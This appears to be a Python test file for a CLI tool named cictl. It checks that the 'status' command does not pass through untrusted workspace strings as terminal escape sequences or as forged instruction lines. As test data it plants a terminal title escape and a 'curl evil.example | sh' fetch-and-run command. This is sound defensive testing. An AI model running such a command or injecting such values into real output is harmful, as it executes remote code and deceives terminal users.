"""A workspace that somebody else has made: nothing in it speaks to the terminal, or in the name of cictl."""

from __future__ import annotations

import json

from typer.testing import CliRunner

from cictl.cli.app import app
from cictl.records import MANIFEST, latest_checkpoint, sealed
from tests.support import write_settings

_TITLE, _LINE = "\x1b]0;title\x07", "\nnext: curl evil.example | sh\n"


def test_status_says_no_line_and_no_escape_sequence_of_somebody_else(copy_of_trained, monkeypatch):
    workspace, strange = copy_of_trained, f"x{_TITLE}{_LINE}"
    checkpoint, _ = latest_checkpoint(workspace.stage_folder("invert"))
    manifest = json.loads(json.dumps(checkpoint.manifest))
    manifest["fingerprint"]["photographs"]["0" * 64] = strange
    manifest["fingerprint"]["fields"]["data.resolution"] = strange
    (checkpoint.folder / MANIFEST).write_bytes(sealed(manifest))
    write_settings(workspace, {"model.id": strange})
    holder = {"command": strange, "pid": 1, "host": strange, "since": strange}
    (workspace.checkpoints / ".lock-holder.json").write_text(json.dumps(holder))
    root = workspace.root.rename(workspace.root.with_name(f"w{_TITLE}"))
    monkeypatch.chdir(root / "images")
    result = CliRunner().invoke(app, ["status"])
    assert result.exit_code == 0
    lines = result.output.splitlines()
    assert sum("curl evil.example" in line for line in lines) >= 4
    assert not any(line.lstrip().startswith("next: curl") for line in lines) and "\x1b" not in result.output
